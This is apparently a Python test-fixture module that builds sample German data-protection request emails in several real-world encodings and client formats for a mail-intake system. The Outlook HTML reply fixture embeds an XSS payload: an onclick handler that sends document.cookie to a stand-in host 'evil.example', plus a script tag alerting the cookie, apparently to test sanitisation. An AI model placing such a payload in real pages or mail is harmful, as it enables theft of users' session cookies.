"""Well-formed mail from people as their clients send it: Thunderbird, Outlook, a forward.

Each sample is one real-world shape the intake must read: 8bit Latin-1 with encoded-word
subject, Outlook's HTML-only reply, Windows-1252 with attachments, no Message-ID, and a
message/rfc822 forward.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from email.utils import format_datetime, parseaddr

from tests.mail_build import (
    DATE,
    JUERGEN,
    PRIVACY,
    angle,
    crlf_lines,
    encoded_word,
    new_message,
    raw_head,
    smtp_bytes,
    tiny_jpeg,
    tiny_pdf,
)

# The en dash is not in ISO-8859-1: the subject must go out as UTF-8 encoded words.
GERMAN_SUBJECT = "Auskunftsersuchen gemäß Art. 15 DSGVO – Bitte um Kopie meiner Daten"  # noqa: RUF001
GERMAN_BODY = """\
Sehr geehrte Damen und Herren,

gemäß Art. 15 DSGVO bitte ich um Auskunft, ob Sie personenbezogene Daten über mich
verarbeiten, und gegebenenfalls um eine Kopie dieser Daten.

Bitte teilen Sie mir außerdem mit:
- die Zwecke der Verarbeitung,
- die Empfänger, an die meine Daten übermittelt wurden,
- wie lange meine Daten gespeichert werden.

Meine Anschrift: Jürgen Müller, Königstraße 12, 70173 Stuttgart
Kundennummer: 0815-4711

Mit freundlichen Grüßen
Jürgen Müller
"""


def german_request(
    *,
    sender: str = JUERGEN,
    to: str = PRIVACY,
    subject: str = GERMAN_SUBJECT,
    message_id: str = "<auskunft-4711@example.de>",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build an access request: UTF-8 encoded-word subject, Latin-1 name and 8bit body."""
    name, address = parseaddr(sender)
    return crlf_lines(
        f"From: {encoded_word(name, 'iso-8859-1')} <{address}>",
        f"To: {to}",
        f"Subject: {encoded_word(subject)}",
        f"Date: {format_datetime(date)}",
        f"Message-ID: {angle(message_id)}",
        *([f"In-Reply-To: {angle(in_reply_to)}"] if in_reply_to else []),
        "User-Agent: Mozilla Thunderbird",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=ISO-8859-1",
        "Content-Transfer-Encoding: 8bit",
        "",
        *(line.encode("iso-8859-1") for line in GERMAN_BODY.splitlines()),
    )


def outlook_html_reply(
    in_reply_to: str,
    subject: str = GERMAN_SUBJECT,
    *,
    sender: str = JUERGEN,
    to: str = PRIVACY,
    message_id: str = "<AM9PR07MB71234A5B6C7D8E9F0@AM9PR07MB7123.eurprd07.prod.outlook.com>",
    references: str | None = None,
    date: datetime = DATE + timedelta(days=5),
) -> bytes:
    """Build Outlook's HTML-only reply "AW: SUBJECT": quoted history, <script>, onclick."""
    message = new_message(
        sender,
        to,
        f"AW: {subject}",
        message_id,
        date,
        in_reply_to=in_reply_to,
        references=references or angle(in_reply_to),
    )
    message["Thread-Topic"] = subject
    message["Thread-Index"] = "AQHZ8k2TmXq3b0cVJkOx7Ywq5xN2Fg=="
    message["Accept-Language"] = "de-DE, en-US"
    message["Content-Language"] = "de-DE"
    message["X-MS-Has-Attach"] = "no"
    html = f"""\
<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!--
p.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}
--></style>
</head>
<body lang="DE" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Sehr geehrte Damen und Herren,<o:p></o:p></p>
<p class="MsoNormal">anbei wie gewünscht meine Kundennummer: 0815-4711. Mein Profil finden Sie
<a href="https://example.de/profil" onclick="fetch('https://evil.example/?c='+document.cookie)">hier</a>.<o:p></o:p></p>
<script>alert(document.cookie)</script>
<p class="MsoNormal">Mit freundlichen Grüßen<br>Jürgen Müller<o:p></o:p></p>
</div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr">
<font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">
<b>From:</b> Datenschutz &lt;{PRIVACY}&gt;<br>
<b>Sent:</b> Monday, November 2, 2026 10:05 AM<br>
<b>To:</b> Jürgen Müller &lt;juergen.mueller@example.de&gt;<br>
<b>Subject:</b> {subject}</font>
<div>&nbsp;</div>
</div>
<div>
<p class="MsoNormal">Sehr geehrter Herr Müller,<br>
wir haben Ihr Auskunftsersuchen erhalten. Bitte nennen Sie uns Ihre Kundennummer.<br>
Ihr Datenschutz-Team</p>
<p class="MsoNormal">-----Original Message-----<br>
From: Jürgen Müller &lt;juergen.mueller@example.de&gt;<br>
Sent: Wednesday, October 28, 2026 8:15 AM<br>
To: {PRIVACY}<br>
Subject: {subject}</p>
<p class="MsoNormal">Sehr geehrte Damen und Herren,<br>
gemäß Art. 15 DSGVO bitte ich um Auskunft über meine Daten.</p>
</div>
</body>
</html>
"""
    message.set_content(html, subtype="html", charset="utf-8", cte="quoted-printable")
    return smtp_bytes(message)


def cp1252_complaint_with_attachments(
    *,
    sender: str = "Sabine Weiß <sabine.weiss@example.de>",
    to: str = PRIVACY,
    subject: str = "Beschwerde: Werbung trotz Widerspruch",
    message_id: str = "<beschwerde-0042@example.de>",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build a complaint in Windows-1252 (smart quotes, €) with a PDF and a JPEG attached."""
    message = new_message(sender, to, subject, message_id, date, in_reply_to=in_reply_to)
    message["X-Mailer"] = "Microsoft Outlook 16.0"
    # Quotes, dash and euro sign are where Windows-1252 differs from ISO-8859-1.
    message.set_content(
        "Sehr geehrte Damen und Herren,\n\n"
        "ich habe am 3. März der Nutzung meiner Daten für Werbung widersprochen. Trotzdem\n"
        "bekomme ich weiter „Angebote“ und Ihren “Newsletter” – zuletzt mit einem Gutschein\n"  # noqa: RUF001
        "über 50 €.\n\n"
        "Anbei Ihr Schreiben (PDF) und ein Foto des Umschlags.\n\n"
        "Sabine Weiß\n",
        charset="windows-1252",
        cte="quoted-printable",
    )
    message.add_attachment(
        tiny_pdf("Ihr Schreiben vom 12.10.2026"),
        maintype="application",
        subtype="pdf",
        filename="Schreiben_12.10.2026.pdf",
    )
    message.add_attachment(
        tiny_jpeg(), maintype="image", subtype="jpeg", filename="Umschlag_Rückseite.jpg"
    )
    return smtp_bytes(message)


def without_message_id(
    *,
    sender: str = "Max Mustermann <max.mustermann@example.org>",
    to: str = PRIVACY,
    subject: str = "Bitte löschen Sie meine Daten",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build an erasure request without a Message-ID header."""
    message = new_message(sender, to, subject, None, date, in_reply_to=in_reply_to)
    message.set_content(
        "Hallo,\n\nbitte löschen Sie alle Daten, die Sie über mich gespeichert haben.\n\n"
        "Max Mustermann\n"
    )
    return smtp_bytes(message)


def forwarded_rfc822(
    forwarded: bytes | None = None,
    *,
    sender: str = "Kundenservice <service@example.test>",
    to: str = PRIVACY,
    subject: str = "WG: Auskunftsersuchen nach Art. 15 DSGVO",
    message_id: str = "<weiterleitung-17@example.test>",
    date: datetime = DATE + timedelta(hours=2),
) -> bytes:
    """Forward FORWARDED (default: german_request()) as a message/rfc822 attachment."""
    inner = german_request() if forwarded is None else forwarded
    boundary = b"----=_Part_fwd_4711"
    return b"".join(
        [
            raw_head(sender, to, subject, message_id, date),
            crlf_lines(
                "MIME-Version: 1.0",
                f'Content-Type: multipart/mixed; boundary="{boundary.decode()}"',
                "",
                "This is a multi-part message in MIME format.",
                b"--" + boundary,
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit",
                "",
                "Hallo Datenschutz-Team,",
                "",
                "bitte kümmert euch um die weitergeleitete Anfrage im Anhang.",
                "",
                "Viele Grüße",
                "Kundenservice",
                b"--" + boundary,
                "Content-Type: message/rfc822",
                'Content-Disposition: attachment; filename="Auskunftsersuchen.eml"',
                "",
            ),
            inner,
            # The CRLF before a boundary belongs to the boundary: this one keeps INNER whole.
            crlf_lines("", b"--" + boundary + b"--"),
        ]
    )
